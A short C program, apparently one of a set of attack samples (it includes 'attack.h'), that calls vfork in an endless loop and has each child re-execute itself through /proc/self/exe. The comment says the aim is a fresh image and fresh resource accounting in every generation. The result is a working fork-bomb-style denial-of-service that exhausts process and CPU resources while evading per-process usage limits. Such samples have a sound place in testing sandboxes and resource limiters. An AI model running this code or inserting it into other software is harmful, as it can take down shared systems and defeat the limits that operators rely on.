/* vforks and executes itself for ever: every generation has a fresh image and fresh rusage. */
#include "attack.h"
int main(int argc, char **argv) {
    (void)argc;
    for (;;) {
        pid_t child = vfork();
        if (child == 0) {
            execl("/proc/self/exe", argv[0], (char *)0);
            execv(argv[0], argv);
            _exit(1);
        }
    }
}
